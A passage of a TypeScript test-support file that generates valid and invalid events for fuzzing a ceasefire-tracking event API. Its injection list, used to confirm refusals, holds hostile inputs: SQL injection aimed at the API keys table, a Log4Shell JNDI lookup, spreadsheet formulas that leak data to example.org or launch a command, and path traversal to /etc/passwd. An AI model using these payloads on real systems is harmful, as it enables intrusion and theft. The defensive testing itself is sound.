/**
 * Hostile input for the fuzz and injection tests (test/fuzz.test.ts, test/injection.test.ts):
 * fast-check arbitraries of valid events (with edge values the API must take, every event type of
 * the catalogue and its second edition's fields: answers, reports and fulfilments come in runs
 * after their subject, validSubjectRun; readouts name the seeded calls, and a violation report's
 * period ends by the end of its occurredAt's precision interval, at it now and then) and of events,
 * batches, lines and values it must refuse; the classic injection strings; a snapshot of everything
 * a refused request must leave as it was (log head, counts, actors, keys, read-model rows); and a
 * raw GraphQL client that can send what JSON.stringify cannot build (values nested 5,000 deep).
 *
 * Every refused value here is refused by construction (a wrong type, a value outside its field's
 * rules, a missing required field, an unknown field), so a property can demand a refusal.
 */
import crypto from 'node:crypto';
import fc from 'fast-check';
import type pg from 'pg';
import { parseInstant } from '../../src/common/instant.js';
import type { TimePrecision } from '../../src/events/catalogue/event-types.js';
import { timeBounds } from '../../src/read-models/fold-event.js';
import {
  CAST,
  type RawEvent,
  agreementReached,
  appendEvents,
  callHeld,
  conditionsMet,
  connect,
  eventCorrected,
  eventRetracted,
  pledgeMade,
  proposalAccepted,
  proposalMade,
  proposalRejected,
  registerActors,
  statementMade,
  strikeReported,
} from './fixtures.js';
import { type TestApp, startTestApp } from './test-app.js';
import { until } from './wait.js';

/**
 * fast-check parameters: a fixed seed per property (FUZZ_SEED=n overrides it), numRuns times
 * FUZZ_RUNS_FACTOR, and no shrinking unless FUZZ_SHRINK=true (each run speaks HTTP; the seed and the
 * counterexample are printed either way).
 */
export function fuzzParams(seed: number, numRuns: number): fc.Parameters<unknown> {
  return {
    seed: process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : seed,
    numRuns: Math.max(1, Math.round(numRuns * Number(process.env.FUZZ_RUNS_FACTOR ?? 1))),
    endOnFailure: process.env.FUZZ_SHRINK !== 'true',
  };
}

// ---------------------------------------------------------------------------------------------
// Hostile strings

/** Classic injection and edge strings, tried in every string argument. */
export const INJECTIONS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  '"; DROP TABLE events; --',
  "russia' --",
  "russia'); DELETE FROM actors; --",
  "' UNION SELECT key_hash FROM api_keys --",
  '1; TRUNCATE events',
  '$$',
  '$$; DROP TABLE events; $$',
  '$1',
  '\\',
  "\\'",
  '%',
  '_',
  '%_%',
  'russia%',
  'rus_ia',
  '*',
  '\u0000',
  'putin\u0000',
  "\u0000'; DROP TABLE events; --",
  '\ud800',
  'a\udc00b',
  '😀',
  'ＤＲＯＰ ＴＡＢＬＥ',
  '\u202ereversed',
  '${jndi:ldap://example.org/a}',
  '{{7*7}}',
  '=HYPERLINK("http://example.org/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'x\r\nX-Injected: 1',
  ' ',
  '',
  '0',
  '-1',
  'null',
  'true',
  'undefined',
  '[]',
  '{}',
  '9'.repeat(30),
  'x'.repeat(10_001),
  'é'.repeat(70_000),
];

/** The injection strings a JSON body or a GraphQL variable can carry (all of them: NUL and lone surrogates are JSON escapes). */
export const injection = (): fc.Arbitrary<string> => fc.constantFrom(...INJECTIONS);

/** Junk strings: the injection list, arbitrary code points (lone surrogates included), control characters, long runs. */
export const junkString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: injection() },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    {
      weight: 1,
      arbitrary: fc.string({
        unit: fc.constantFrom(
          '\u0000',
          '\u0001',
          '\n',
          '\r',
          '\t',
          '\u007f',
          '\ud800',
          '\udfff',
          "'",
          '"',
          '\\',
          '%',
          '_',
          '$',
        ),
        maxLength: 12,
      }),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('x', 'é', '😀', "'"), fc.integer({ min: 200, max: 20_000 }))
        .map(([c, n]) => c.repeat(n)),
    },
  );

/** Text an API field of at most `max` characters takes: non-blank, no NUL, no lone surrogate. */
export function validText(max: number): fc.Arbitrary<string> {
  const literal = INJECTIONS.filter(
    (s) =>
      s.trim() !== '' &&
      !s.includes('\u0000') &&
      !/[\ud800-\udfff]/.test(s.replace(/[\ud800-\udbff][\udc00-\udfff]/g, '')) &&
      [...s.trim()].length <= max,
  );
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...literal) },
    {
      weight: 3,
      arbitrary: fc
        .string({ unit: 'grapheme', minLength: 1, maxLength: 30 })
        .filter((s) => s.trim() !== '' && !s.includes('\u0000')),
    },
    { weight: 1, arbitrary: fc.constantFrom('x'.repeat(max), '😀'.repeat(max), `  ${'y'.repeat(max)}  `) },
  );
}

// ---------------------------------------------------------------------------------------------
// Values nested deeper than JSON.stringify can write in a test worker

/** A value nested `depth` levels deep; toJson writes it without recursion. */
export class Deep {
  constructor(
    readonly depth: number,
    readonly kind: 'array' | 'object',
  ) {}
}

/** JSON of `value` where every Deep is written as `depth` nested arrays or objects. */
export function toJson(value: unknown): string {
  const deep: Deep[] = [];
  const text = JSON.stringify(value, (_key, v: unknown) => {
    if (v instanceof Deep) {
      deep.push(v);
      return `\u0001DEEP${deep.length - 1}\u0001`;
    }
    return v;
  });
  return text.replace(/"\\u0001DEEP(\d+)\\u0001"/g, (_m, i: string) => {
    const d = deep[Number(i)];
    return d.kind === 'array'
      ? `${'['.repeat(d.depth)}1${']'.repeat(d.depth)}`
      : `${'{"a":'.repeat(d.depth)}1${'}'.repeat(d.depth)}`;
  });
}

// ---------------------------------------------------------------------------------------------
// Valid events (edge values included): they must be accepted, and the projector must go on

const ACTOR_IDS = CAST.map((a) => a.id);
const actor = () => fc.constantFrom(...ACTOR_IDS);
const actors = (min: number, max: number) => fc.uniqueArray(actor(), { minLength: min, maxLength: max });
const opt = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: undefined, freq: 2 });

/**
 * Instants between 1970 and 2037. Pledges and strikes stay in this window: a pledge's lifetime
 * (Duration.minSeconds, a GraphQL Int) overflows beyond 68 years (a bug reported, not fixed here:
 * the contract says Int). Other events also take the first and the last instant the store holds.
 */
const ordinaryInstant = () =>
  fc
    .date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2037-12-31T00:00:00Z'), noInvalidDate: true })
    .map((d) => d.toISOString());
const edgeInstant = () =>
  fc.oneof(
    ordinaryInstant(),
    fc.constantFrom(
      '0001-01-01T00:00:00Z',
      '0001-01-01',
      '9999-12-31T23:59:59.999Z',
      '9999-12-31',
      '2024-02-29',
      '2025-03-18T16:00+03:00',
      '2025-03-18T14:00:00.123456789Z',
    ),
  );
const precision = () => opt(fc.constantFrom('SECOND', 'MINUTE', 'HOUR', 'DAY', 'MONTH', 'YEAR'));

const sourceArb = () =>
  fc
    .record(
      {
        publisher: validText(300),
        url: fc.oneof(
          fc.webUrl({ withQueryParameters: true, withFragments: true }),
          fc.constantFrom("https://example.org/?q=' OR 1=1 --", 'http://example.org/%00', 'https://пример.рф/путь'),
        ),
        title: validText(500),
        quotedText: validText(10_000),
        publishedAt: ordinaryInstant(),
      },
      { requiredKeys: ['publisher'] },
    )
    .map((s) => (s.url !== undefined && s.url.length > 2048 ? { ...s, url: undefined } : s));

/** Quantities of terms and reports: open-ended, minimums, zero and the largest count included. */
const quantities = () =>
  fc.array(
    fc
      .record(
        {
          what: validText(300),
          count: fc.oneof(fc.integer({ min: 0, max: 5000 }), fc.constant(1_000_000_000)),
          atLeast: fc.boolean(),
          from: actor(),
          to: actor(),
        },
        { requiredKeys: ['what'] },
      )
      // atLeast only with a count.
      .map((q) => (q.count === undefined ? { ...q, atLeast: undefined } : q))
      .map((q) => Object.fromEntries(Object.entries(q).filter(([, v]) => v !== undefined))),
    { maxLength: 3 },
  );

/** Streams of the seeded timeline (seedTimeline) that hold a proposal or an agreement. */
const SEEDED_SUBJECTS = ['proposal-30-day-ceasefire', 'proposal-energy-pause', 'agreement-easter-truce'];

/** The calls of the seeded timeline, with ids of their own: what a generated readout names. */
const SEEDED_CALLS = ['5eed0000-0000-4000-8000-00000000ca11', '5eed0000-0000-4000-8000-00000000ca12'] as const;

const terms = () =>
  fc.record(
    {
      kind: fc.constantFrom('CEASEFIRE', 'PEACE_DEAL', 'PRISONER_EXCHANGE', 'OTHER'),
      scope: fc.constantFrom(
        'COMPREHENSIVE',
        'ENERGY_INFRASTRUCTURE',
        'MARITIME',
        'AIR',
        'LOCAL',
        'HUMANITARIAN',
        'OTHER',
      ),
      durationDays: fc.oneof(fc.integer({ min: 1, max: 60 }), fc.constant(36_525)),
      durationHours: fc.oneof(fc.integer({ min: 1, max: 72 }), fc.constant(876_600)),
      unconditional: fc.boolean(),
      text: validText(10_000),
      quantities: quantities(),
    },
    { requiredKeys: ['kind'] },
  );

/** Two ordered payload instants (for effectiveFrom/effectiveUntil, validFrom/validUntil). */
const window = () =>
  fc
    .tuple(ordinaryInstant(), ordinaryInstant())
    .filter(([a, b]) => a !== b)
    .map(([a, b]) => (a < b ? [a, b] : [b, a]));

/** Payloads of the types a fresh stream takes on its own, each with valid edge values. */
const PAYLOADS: Record<string, () => fc.Arbitrary<Record<string, unknown>>> = {
  CALL_HELD: () =>
    fc.record(
      {
        participants: actors(2, 4),
        initiator: actor(),
        durationMinutes: fc.oneof(fc.integer({ min: 1, max: 600 }), fc.constant(52_596_000)),
        channel: fc.constantFrom('PHONE', 'VIDEO'),
        topics: fc.array(validText(300), { maxLength: 4 }),
      },
      { requiredKeys: ['participants'] },
    ),
  MEETING_HELD: () =>
    fc
      .record(
        {
          participants: actors(2, 4),
          place: validText(300),
          mediator: actor(),
          mediators: actors(0, 3),
          topics: fc.array(validText(300), { maxLength: 3 }),
          round: fc.oneof(fc.integer({ min: 1, max: 12 }), fc.constant(10_000)),
        },
        { requiredKeys: ['participants'] },
      )
      // The first edition's mediator or the second's mediators, never both.
      .map(({ mediator, ...d }) => (d.mediators === undefined && mediator !== undefined ? { ...d, mediator } : d)),
  STATEMENT_MADE: () =>
    fc.record(
      {
        speaker: actor(),
        text: validText(10_000),
        venue: validText(300),
        about: actors(0, 3),
        readoutOf: fc.constantFrom(...SEEDED_CALLS),
      },
      { requiredKeys: ['speaker', 'text'] },
    ),
  DEMAND_MADE: () =>
    fc.record(
      { by: actor(), addressee: actor(), demand: validText(10_000) },
      { requiredKeys: ['by', 'addressee', 'demand'] },
    ),
  PROPOSAL_MADE: () =>
    fc.record(
      {
        proposers: actors(1, 2),
        parties: actors(1, 3),
        title: validText(300),
        terms: terms(),
        counterTo: fc.constantFrom(...SEEDED_SUBJECTS),
        backers: actors(0, 2),
        mediators: actors(0, 2),
      },
      { requiredKeys: ['proposers', 'parties', 'title', 'terms'] },
    ),
  AGREEMENT_REACHED: () =>
    fc
      .tuple(
        fc.record(
          {
            parties: actors(1, 3),
            title: validText(300),
            terms: terms(),
            unilateral: fc.boolean(),
            mediators: actors(0, 2),
            guarantors: actors(0, 2),
          },
          { requiredKeys: ['parties', 'title', 'terms'] },
        ),
        opt(window()),
        fc.boolean(),
      )
      .map(([d, w, untilToo]) =>
        w ? { ...d, effectiveFrom: w[0], ...(untilToo ? { effectiveUntil: w[1] } : {}) } : d,
      ),
  PLEDGE_MADE: () =>
    fc
      .tuple(
        fc.record(
          {
            by: actor(),
            to: actor(),
            commitment: fc.record(
              {
                action: fc.constantFrom('HALT_STRIKES', 'WITHDRAW', 'RELEASE', 'PROVIDE_AID', 'OTHER'),
                targetCategory: fc.constantFrom(
                  'ENERGY_INFRASTRUCTURE',
                  'MILITARY',
                  'CIVILIAN',
                  'TRANSPORT',
                  'PORT',
                  'OTHER',
                ),
                text: validText(10_000),
              },
              { requiredKeys: ['action', 'text'] },
            ),
            durationDays: fc.oneof(fc.integer({ min: 1, max: 60 }), fc.constant(36_525)),
          },
          { requiredKeys: ['by', 'commitment'] },
        ),
        opt(window()),
      )
      .map(([d, w]) => (w ? { ...d, validFrom: w[0], validUntil: w[1] } : d)),
  STRIKE_REPORTED: () =>
    fc.record(
      {
        attacker: actor(),
        targetCategory: fc.constantFrom('ENERGY_INFRASTRUCTURE', 'MILITARY', 'CIVILIAN', 'TRANSPORT', 'PORT', 'OTHER'),
        place: validText(300),
        country: fc.constantFrom('UA', 'RU', 'US', 'ZZ'),
        means: fc.constantFrom('DRONE', 'MISSILE', 'ARTILLERY', 'AIRCRAFT', 'OTHER'),
        impact: validText(10_000),
      },
      { requiredKeys: ['attacker', 'targetCategory', 'place'] },
    ),
  // The period, which depends on the envelope, is added by validEvent (reportPeriod).
  VIOLATION_REPORTED: () =>
    fc.record(
      {
        violator: actor(),
        reportedBy: actor(),
        text: validText(10_000),
        count: fc.oneof(fc.integer({ min: 1, max: 5000 }), fc.constantFrom(1, 1_000_000)),
        cumulative: fc.boolean(),
      },
      { requiredKeys: ['violator', 'reportedBy'] },
    ),
  // In a stream of its own: it names the seeded proposals and agreements it carries out.
  IMPLEMENTATION_REPORTED: () =>
    fc.record(
      {
        reportedBy: actor(),
        party: actor(),
        stage: validText(300),
        quantities: quantities(),
        complete: fc.boolean(),
        implements: fc.uniqueArray(fc.constantFrom(...SEEDED_SUBJECTS), { minLength: 1, maxLength: 3 }),
        text: validText(10_000),
      },
      { requiredKeys: ['reportedBy', 'implements', 'text'] },
    ),
};

/** Types whose events keep to ordinary times (see ordinaryInstant). */
const ORDINARY_TIMES = new Set([
  'PLEDGE_MADE',
  'STRIKE_REPORTED',
  'VIOLATION_REPORTED',
  'AGREEMENT_REACHED',
  'PROPOSAL_MADE',
]);

/**
 * Where a report's period sits before the end of its occurredAt's precision interval (the latest
 * the catalogue allows): its end that many ms before it (0: exactly at it, the edge), its start
 * `length` ms before its end, and which bounds the payload gives.
 */
const reportPeriod = () =>
  fc.record({
    back: fc.oneof(fc.constant(0), fc.integer({ min: 1, max: 30 * 86_400_000 })),
    length: fc.oneof(fc.constant(0), fc.integer({ min: 1, max: 30 * 86_400_000 })),
    bounds: fc.constantFrom('both', 'from', 'until'),
  });

function withPeriod(
  data: Record<string, unknown>,
  occurredAt: string,
  precision: string | undefined,
  period: { back: number; length: number; bounds: string },
): Record<string, unknown> {
  const at = parseInstant(occurredAt)!.getTime();
  const until = timeBounds(at, (precision ?? 'MINUTE') as TimePrecision).latest - period.back;
  const iso = (ms: number) => new Date(ms).toISOString();
  return {
    ...data,
    ...(period.bounds !== 'until' ? { periodFrom: iso(until - period.length) } : {}),
    ...(period.bounds !== 'from' ? { periodUntil: iso(until) } : {}),
  };
}

/** A valid event for a fresh stream (any of the self-contained types), with a fresh id or none. */
export function validEvent(): fc.Arbitrary<RawEvent> {
  return fc.constantFrom(...Object.keys(PAYLOADS)).chain((type) =>
    fc
      .record(
        {
          data: PAYLOADS[type](),
          occurredAt: ORDINARY_TIMES.has(type) ? ordinaryInstant() : edgeInstant(),
          occurredPrecision: precision(),
          sources: fc.array(sourceArb(), { minLength: 1, maxLength: 3 }),
          withId: fc.boolean(),
          period: reportPeriod(),
        },
        { requiredKeys: ['data', 'occurredAt', 'sources', 'withId'] },
      )
      .map(({ withId, period, ...e }) => {
        const data =
          type === 'VIOLATION_REPORTED' && period
            ? withPeriod(e.data, e.occurredAt, e.occurredPrecision, period)
            : e.data;
        const event: RawEvent = { type, occurredAt: e.occurredAt, data, sources: e.sources };
        if (e.occurredPrecision !== undefined) event.occurredPrecision = e.occurredPrecision;
        if (withId) event.id = crypto.randomUUID();
        return event;
      })
      // The size limit (64 KiB of data and sources) is a refusal of its own; keep valid events under it.
      .filter((e) => Buffer.byteLength(JSON.stringify({ data: e.data, sources: e.sources })) <= 64 * 1024),
  );
}

/** Who acts for each side of CAST (principals first): an answer may come from any of them. */
const SIDES: Record<string, string[]> = {
  russia: ['russia', 'putin', 'kremlin', 'ushakov'],
  ukraine: ['ukraine', 'zelensky'],
  us: ['us', 'trump', 'waltz'],
  'saudi-arabia': ['saudi-arabia'],
};

const source1 = [{ publisher: 'Test wire' }];

/**
 * A subject and what follows it in its stream, valid only together and in this order: a proposal
 * (or agreement) and answers by its parties' sides (acceptances with or without conditions,
 * conditions met, rejections, a report of its implementation), or a pledge and its fulfilment.
 */
export function validSubjectRun(): fc.Arbitrary<RawEvent[]> {
  const event = (type: string, data: Record<string, unknown>): RawEvent => ({
    type,
    occurredAt: '2025-05-16T12:00:00Z',
    data,
    sources: source1,
  });
  const answers = fc
    .tuple(
      fc.constantFrom(...Object.keys(SIDES)),
      fc.subarray(Object.keys(SIDES), { minLength: 0 }),
      fc.boolean(),
      PAYLOADS.PROPOSAL_MADE(),
    )
    .chain(([first, others, agreement, proposal]) => {
      const parties = [...new Set([first, ...others])];
      const answer = fc
        .tuple(
          fc.constantFrom('PROPOSAL_ACCEPTED', 'PROPOSAL_REJECTED', 'CONDITIONS_MET'),
          fc.constantFrom(...parties).chain((side) => fc.constantFrom(...SIDES[side])),
          fc.option(fc.array(validText(10_000), { minLength: 1, maxLength: 2 }), { nil: undefined }),
        )
        .map(([type, party, conditions]) =>
          event(type, {
            party,
            ...(conditions && type !== 'PROPOSAL_REJECTED' ? { conditions } : {}),
          }),
        );
      const report = PAYLOADS.IMPLEMENTATION_REPORTED().map(({ implements: _own, ...d }) =>
        event('IMPLEMENTATION_REPORTED', d),
      );
      const subject = agreement
        ? event('AGREEMENT_REACHED', { parties, title: 'agreed', terms: proposal.terms })
        : event('PROPOSAL_MADE', { ...proposal, parties });
      return fc
        .array(fc.oneof({ weight: 3, arbitrary: answer }, { weight: 1, arbitrary: report }), {
          minLength: 1,
          maxLength: 3,
        })
        .map((rest) => [subject, ...rest]);
    });
  const fulfilment = fc
    .tuple(PAYLOADS.PLEDGE_MADE(), actor(), fc.option(validText(10_000), { nil: undefined }))
    .map(([pledge, by, text]) => [
      event('PLEDGE_MADE', pledge),
      event('PLEDGE_FULFILLED', text === undefined ? { by } : { by, text }),
    ]);
  return fc.oneof({ weight: 3, arbitrary: answers }, { weight: 1, arbitrary: fulfilment });
}

/**
 * Valid events for one fresh stream: self-contained ones (validEvent), and now and then a subject
 * with its answers, report or fulfilment (validSubjectRun) in its place among them.
 */
export function validEvents({
  minLength,
  maxLength,
}: {
  minLength: number;
  maxLength: number;
}): fc.Arbitrary<RawEvent[]> {
  return fc
    .tuple(
      fc.array(validEvent(), { minLength, maxLength }),
      fc.option(validSubjectRun(), { freq: 3, nil: undefined }),
      fc.nat(),
    )
    .map(([events, run, at]) => {
      if (!run) return events;
      const all = [...events];
      all.splice(at % (all.length + 1), 0, ...run);
      return all;
    });
}

// ---------------------------------------------------------------------------------------------
// Events the API must refuse

type Kind =
  | 'actor'
  | 'actors'
  | 'text'
  | 'name'
  | 'enum'
  | 'int'
  | 'bool'
  | 'date'
  | 'uuid'
  | 'uuids'
  | 'stream'
  | 'object'
  | 'country'
  | 'texts'
  | 'payload'
  | 'streams'
  | 'quantities';
type Spec = Record<string, [Kind, boolean]>;

/** Every payload field of the catalogue: its kind and whether it is required. */
const SPECS: Record<string, Spec> = {
  CALL_HELD: {
    participants: ['actors', true],
    initiator: ['actor', false],
    durationMinutes: ['int', false],
    channel: ['enum', false],
    topics: ['texts', false],
  },
  MEETING_HELD: {
    participants: ['actors', true],
    place: ['name', false],
    mediator: ['actor', false],
    mediators: ['actors', false],
    topics: ['texts', false],
    round: ['int', false],
  },
  STATEMENT_MADE: {
    speaker: ['actor', true],
    text: ['text', true],
    venue: ['name', false],
    about: ['actors', false],
    readoutOf: ['uuid', false],
  },
  CLAIM_DISPUTED: { disputedEventId: ['uuid', true], by: ['actor', true], text: ['text', true] },
  DEMAND_MADE: {
    by: ['actor', true],
    addressee: ['actor', true],
    demand: ['text', true],
    conditionFor: ['stream', false],
  },
  PROPOSAL_MADE: {
    proposers: ['actors', true],
    parties: ['actors', true],
    title: ['name', true],
    terms: ['object', true],
    counterTo: ['stream', false],
    backers: ['actors', false],
    mediators: ['actors', false],
  },
  PROPOSAL_ACCEPTED: { party: ['actor', true], conditions: ['texts', false] },
  PROPOSAL_REJECTED: { party: ['actor', true], reason: ['text', false] },
  CONDITIONS_MET: { party: ['actor', true], conditions: ['texts', false], text: ['text', false] },
  AGREEMENT_REACHED: {
    parties: ['actors', true],
    title: ['name', true],
    terms: ['object', true],
    effectiveFrom: ['date', false],
    effectiveUntil: ['date', false],
    unilateral: ['bool', false],
    mediators: ['actors', false],
    guarantors: ['actors', false],
  },
  IMPLEMENTATION_REPORTED: {
    reportedBy: ['actor', true],
    party: ['actor', false],
    stage: ['name', false],
    quantities: ['quantities', false],
    complete: ['bool', false],
    implements: ['streams', false],
    text: ['text', true],
  },
  PLEDGE_MADE: {
    by: ['actor', true],
    to: ['actor', false],
    commitment: ['object', true],
    validFrom: ['date', false],
    durationDays: ['int', false],
    validUntil: ['date', false],
    ceasefireId: ['stream', false],
  },
  PLEDGE_WITHDRAWN: { by: ['actor', true], reason: ['text', false] },
  PLEDGE_FULFILLED: { by: ['actor', true], text: ['text', false] },
  STRIKE_REPORTED: {
    attacker: ['actor', true],
    targetCategory: ['enum', true],
    place: ['name', true],
    country: ['country', false],
    means: ['enum', false],
    impact: ['text', false],
  },
  VIOLATION_REPORTED: {
    violator: ['actor', true],
    reportedBy: ['actor', true],
    evidenceEventIds: ['uuids', false],
    text: ['text', false],
    count: ['int', false],
    periodFrom: ['date', false],
    periodUntil: ['date', false],
    cumulative: ['bool', false],
  },
  EVENT_CORRECTED: {
    correctedEventId: ['uuid', true],
    data: ['payload', false],
    occurredAt: ['date', false],
    occurredPrecision: ['enum', false],
    reason: ['text', true],
  },
  EVENT_RETRACTED: { retractedEventId: ['uuid', true], reason: ['text', true] },
};

const NOT_AN_ACTOR = [
  'Putin',
  'zz-nobody',
  '-putin',
  'putin russia',
  'x'.repeat(65),
  ...INJECTIONS.filter((s) => !ACTOR_IDS.includes(s)),
];
const deep = () =>
  fc
    .tuple(fc.integer({ min: 33, max: 6000 }), fc.constantFrom<'array' | 'object'>('array', 'object'))
    .map(([n, k]) => new Deep(n, k));

/** Values a field of this kind refuses (some only the database can tell: an unknown event or stream). */
function badValue(kind: Kind): fc.Arbitrary<unknown> {
  const wrongTypes = fc.constantFrom<unknown>(12, -3.5, null, { a: 1 }, [[]]);
  switch (kind) {
    case 'actor':
      return fc.oneof(wrongTypes, fc.constantFrom<unknown>(...NOT_AN_ACTOR, ['putin']));
    case 'actors':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          'putin',
          ['putin', 'putin'],
          Array.from({ length: 101 }, (_, i) => `zz-${i}`),
        ),
        fc.tuple(actors(1, 2), fc.constantFrom(...NOT_AN_ACTOR)).map(([ok, bad]) => [...ok, bad]),
      );
    case 'text':
    case 'name': {
      const max = kind === 'text' ? 10_000 : 300;
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          '',
          '   ',
          '\n\t',
          'a\u0000b',
          '\u0000',
          'x\ud800',
          '\udfff',
          'y'.repeat(max + 1),
          '😀'.repeat(max + 1),
          ['text'],
          true,
        ),
      );
    }
    case 'enum':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>('', 'phone', 'hospital', 'HOSPITAL', 'PHONE ', 'energy_infrastructure', true),
        injection(),
      );
    case 'int':
      return fc.constantFrom<unknown>(
        null,
        '30',
        1.5,
        0,
        -1,
        true,
        {},
        [],
        36_526 * 24 * 60,
        Number.MAX_SAFE_INTEGER,
        1e300,
        '9'.repeat(400),
      );
    case 'bool':
      return fc.constantFrom<unknown>(null, 'true', 1, 0, {}, [], 'yes');
    case 'date':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          '',
          'yesterday',
          '2025-02-30',
          '2025-13-01',
          '2025-03-18T24:00Z',
          '2025-03-18 14:00Z',
          '2025-03-18T14:00:00',
          '18/03/2025',
          '+010000-01-01T00:00:00Z',
          '2025-03-18T14:00Z\u0000',
          1742306400000,
          true,
        ),
        injection(),
      );
    case 'uuid':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          '',
          'not-a-uuid',
          '00000000-0000-0000-0000-00000000000g',
          `${crypto.randomUUID()}0`,
          true,
        ),
        injection(),
        fc.uuid(),
      );
    case 'uuids':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>('x', ['not-a-uuid'], [12]),
        fc.uuid().map((u) => [u, u]),
      );
    case 'stream':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>('', 'Bad Stream', '-x', 'x'.repeat(200), 'zz-no-such-stream'),
        injection(),
      );
    case 'object':
      return fc.constantFrom<unknown>(
        null,
        12,
        'CEASEFIRE',
        [],
        {},
        { kind: 'TRUCE' },
        { action: 'PAUSE', text: 'x' },
        { kind: 'CEASEFIRE', action: 'HALT_STRIKES', text: 'x', colour: 'blue' },
      );
    case 'country':
      return fc.oneof(wrongTypes, fc.constantFrom<unknown>('', 'ua', 'UKR', 'U1', 'Ü'), injection());
    case 'texts':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          'topic',
          [''],
          ['a\u0000'],
          [12],
          ['x'.repeat(10_001)],
          Array.from({ length: 101 }, (_, i) => `t${i}`),
        ),
      );
    case 'payload':
      return fc.constantFrom<unknown>(null, 12, 'x', []);
    case 'streams':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          'agreement-x',
          [],
          ['Bad Stream'],
          ['agreement-x', 'agreement-x'],
          [12],
          Array.from({ length: 101 }, (_, i) => `s-${i}`),
          ['zz-no-such-stream'],
        ),
      );
    case 'quantities':
      return fc.oneof(
        wrongTypes,
        fc.constantFrom<unknown>(
          'prisoners',
          [12],
          [null],
          [{}],
          [{ what: '' }],
          [{ what: 'prisoners', count: -1 }],
          [{ what: 'prisoners', count: 1.5 }],
          [{ what: 'prisoners', atLeast: true }],
          [{ what: 'prisoners', count: 3, atLeast: 'yes' }],
          [{ what: 'prisoners', from: 'Putin' }],
          [{ what: 'prisoners', unit: 'people' }],
          Array.from({ length: 101 }, () => ({ what: 'prisoners' })),
        ),
      );
  }
}

/** Keys no payload has (JSON.parse keeps `__proto__` as an own key; so does this). */
const unknownKey = () =>
  fc.oneof(
    fc.constantFrom(
      'mood',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      "' OR 1=1 --",
      '$where',
      '',
      ' ',
      'a.b',
      '\u0000',
      'id',
      'type',
    ),
    fc.string({ maxLength: 12 }),
  );

function withOwnKey(object: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...object };
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

/** A base event of every type (references to events that may or may not exist). */
function baseEvent(type: string): RawEvent {
  const data: Record<string, Record<string, unknown>> = {
    CALL_HELD: { participants: ['trump', 'putin'] },
    MEETING_HELD: { participants: ['waltz', 'ushakov'], place: 'Riyadh' },
    STATEMENT_MADE: { speaker: 'trump', text: 'very much on track' },
    CLAIM_DISPUTED: { disputedEventId: crypto.randomUUID(), by: 'zelensky', text: 'at odds with reality' },
    DEMAND_MADE: { by: 'putin', addressee: 'us', demand: 'calls only' },
    PROPOSAL_MADE: {
      proposers: ['us'],
      parties: ['ukraine', 'russia'],
      title: 'ceasefire',
      terms: { kind: 'CEASEFIRE', scope: 'COMPREHENSIVE', durationDays: 30 },
    },
    PROPOSAL_ACCEPTED: { party: 'ukraine' },
    PROPOSAL_REJECTED: { party: 'russia', reason: 'no' },
    CONDITIONS_MET: { party: 'ukraine' },
    IMPLEMENTATION_REPORTED: { reportedBy: 'ukraine', implements: ['proposal-30-day-ceasefire'], text: 'stage 1' },
    PLEDGE_FULFILLED: { by: 'putin' },
    AGREEMENT_REACHED: { parties: ['russia'], title: 'truce', terms: { kind: 'CEASEFIRE' }, unilateral: true },
    PLEDGE_MADE: { by: 'putin', commitment: { action: 'HALT_STRIKES', text: 'halt' }, durationDays: 30 },
    PLEDGE_WITHDRAWN: { by: 'putin' },
    STRIKE_REPORTED: { attacker: 'russia', targetCategory: 'ENERGY_INFRASTRUCTURE', place: 'Sloviansk' },
    VIOLATION_REPORTED: { violator: 'russia', reportedBy: 'zelensky' },
    EVENT_CORRECTED: {
      correctedEventId: crypto.randomUUID(),
      occurredPrecision: 'DAY',
      reason: 'only the day is known',
    },
    EVENT_RETRACTED: { retractedEventId: crypto.randomUUID(), reason: 'in error' },
  };
  return { type, occurredAt: '2025-03-18T14:00:00Z', data: data[type], sources: [{ publisher: 'Test wire' }] };
}

/**
 * An event the API refuses, and where: `validation` (the checks before anything is looked up in
 * the database: shape, envelope, payload, registered actors) or `write` (only the database can tell:
 * an event or stream it names does not exist).
 */
export interface RefusedEvent {
  event: RawEvent;
  stage: 'validation' | 'write';
}

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
/** Well-formed references that name nothing are refused only when written. */
const stageOf = (kind: Kind, value: unknown): RefusedEvent['stage'] =>
  (kind === 'uuid' && typeof value === 'string' && UUID.test(value)) ||
  (kind === 'stream' && value === 'zz-no-such-stream') ||
  (kind === 'streams' && Array.isArray(value) && value.length === 1 && value[0] === 'zz-no-such-stream')
    ? 'write'
    : 'validation';
const refused = (event: RawEvent, stage: RefusedEvent['stage'] = 'validation'): RefusedEvent => ({ event, stage });

/** A change of one payload field that makes it invalid. */
const payloadMutation = (): fc.Arbitrary<RefusedEvent> =>
  fc.constantFrom(...Object.keys(SPECS)).chain((type) => {
    const spec = SPECS[type];
    const base = baseEvent(type);
    const fields = Object.keys(spec);
    const required = fields.filter((f) => spec[f][1]);
    return fc.oneof(
      fc
